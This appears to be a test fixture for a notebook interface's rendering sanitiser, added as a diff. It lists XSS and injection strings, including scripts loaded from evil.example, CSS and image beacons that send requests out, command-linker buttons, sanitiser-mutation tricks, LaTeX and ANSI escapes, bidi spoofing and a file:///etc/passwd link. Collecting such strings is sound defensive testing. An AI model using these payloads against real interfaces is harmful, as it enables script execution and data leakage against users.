@@ -1,0 +1,60 @@
+"""Texts that a hostile peer or model may send. Each would set `hacked`, call evil.example or leave a mark."""
+
+# ruff: noqa: E501 (a text is one line)
+
+from __future__ import annotations
+
+EVIL = "https://evil.example"
+COMMAND = "filebrowser:create-new-directory"
+
+TEXTS: dict[str, str] = {
+    "onerror": "<img src=x onerror=hacked=1>",
+    "script": "<script>hacked=1</script>",
+    "script from elsewhere": f"<script src={EVIL}/a.js></script>",
+    "remote image": f'<img src="{EVIL}/pixel.png">',
+    "remote image in Markdown": f"![pixel]({EVIL}/md.png)",
+    "remote image by reference": f"![p][r]\n\n[r]: {EVIL}/ref.png",
+    "javascript link": "[click](javascript:hacked=1)",
+    "javascript link in disguise": "[click](JaVa&#115;cript:hacked=1) <javascript:hacked=1>",
+    "javascript link in HTML": "<a href=javascript:hacked=1>click</a>",
+    "honest links": f"[there]({EVIL}/page) <{EVIL}/auto> [mail](mailto:a@evil.example) {EVIL}/bare",
+    "other schemes in plain text": "javascript://evil.example/%0ahacked=1 JavaScript://x vbscript://x vscode://file/x ms-msdt:/id",
+    "links into Lab": "[up](/lab?reset) [api](/api/contents) [x](//evil.example/x) [f](file:///etc/passwd)",
+    "data link": "[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)",
+    "command link": f'<button data-commandlinker-command="{COMMAND}" data-commandlinker-args="{{}}">Run</button>',
+    "command link in Markdown": f'[run](#x "y" data-commandlinker-command="{COMMAND}")\n{{: data-commandlinker-command}}',
+    "svg onload": "<svg onload=hacked=1><animate onbegin=hacked=1 attributeName=x dur=1s>",
+    "svg link": "<svg><a xlink:href='javascript:hacked=1'><text y=20>click</text></a></svg>",
+    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.hacked=1</script>'></foreignObject></svg>",
+    "style exfiltration": f"<style>*{{background:url({EVIL}/style)}} @import '{EVIL}/import.css';</style>",
+    "style attribute": f"<p style='position:fixed;inset:0;background:url({EVIL}/attr)' class=pwned>over all</p>",
+    "base": f"<base href={EVIL}/ target=_top>",
+    "meta refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
+    "prefetch": f"<link rel=prefetch href={EVIL}/prefetch><link rel=stylesheet href={EVIL}/x.css>",
+    "iframe": "<iframe src=javascript:parent.hacked=1></iframe>",
+    "form": f"<form action={EVIL}/form><input name=pwned autofocus onfocus=hacked=1><button>Go</button></form>",
+    "object": f"<object data={EVIL}/o></object><embed src={EVIL}/e><video poster={EVIL}/v><source src={EVIL}/s>",
+    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
+    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
+    "template": "<template><script>hacked=1</script></template><template shadowrootmode=open><img src=x onerror=hacked=1>",
+    "unclosed comment": "<!--><img src=x onerror=hacked=1>--!> --> ]]> </pre></code></textarea></title></style></script>",
+    "clobbering": "<a id=pwned-jupyterapp name=pwned-body></a><form id=pwned-x><input name=attributes></form>",
+    "title that breaks out": f'[t]({EVIL}/t "x\\" onmouseover=\\"hacked=1") `" onclick="hacked=1`',
+    "code language that breaks out": '```html" onclick="hacked=1\n<b>\n```\n```pwned jp-Dialog\nx\n```',
+    "table": "|<img src=x onerror=hacked=1>|[a](javascript:hacked=1)|\n|-|-|\n|<b id=pwned>x|![i](https://evil.example/t.png)|",
+    "LaTeX link": r"$\href{javascript:hacked=1}{click}$ $\href{https://evil.example/tex}{here}$ \(\href{/lab?reset}{lab}\)",
+    "LaTeX definition": r"$\renewcommand{\cos}{EVIL}\cos$ $$\def\sin{EVIL}$$ \begin{equation}\let\tan\cos\end{equation}",
+    "LaTeX marks": r"$\class{pwned}{x}\cssId{pwned}{x}\style{position:fixed;background:url(https://evil.example/css)}{x}$",
+    "LaTeX attributes": r"$\require{html}\mmlToken{mi}[href='javascript:hacked=1' class='pwned']{x} \bbox[background:url(https://evil.example/b)]x$",
+    "LaTeX with HTML in it": r"$\text{<img src=x onerror=hacked=1>}$ $$<script>hacked=1</script>$$ \(<img src=x onerror=hacked=1>\)",
+    "LaTeX that never ends": r"$\def\a{\a\a}\a$ $\rule{9999em}{9999em}$ \begin{pwned} \begin{align} $$ \[",
+    "ANSI": "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H\x1b]0;title\x07 \x9b31m \x1bc<b>",
+    "OSC 8": "\x1b]8;;javascript:hacked=1\x1b\\click\x1b]8;;\x1b\\ \x1b]8;;https://evil.example/osc\x07here\x1b]8;;\x07",
+    "bidi": "invoice\u202efdp.exe \u2066a\u2069 \u061c\u200f\u200e",
+    "invisible": "lo\u200bcal\ufeff\u2060\u2028next\U000e0041\U000e0001",
+    "carriage returns and NUL": "Local\rfake\r\nline\x00\x08\x08\x7f\x0bLocal · ready",
+    "deep nesting": "> " * 60 + "* " * 60 + "[" * 60 + "<b>" * 60 + "**a" * 60,
+    "entities": "&lt;img src=x onerror=hacked=1&gt; &#60;script&#62;hacked=1&#60;/script&#62; &amp;lt;b&amp;gt;",
+    "format strings": "{hacked} %s %1 %2 ${hacked} {{hacked}} `${hacked=1}` %(x)s #{hacked}",
+    "constructor": "__proto__",
+}
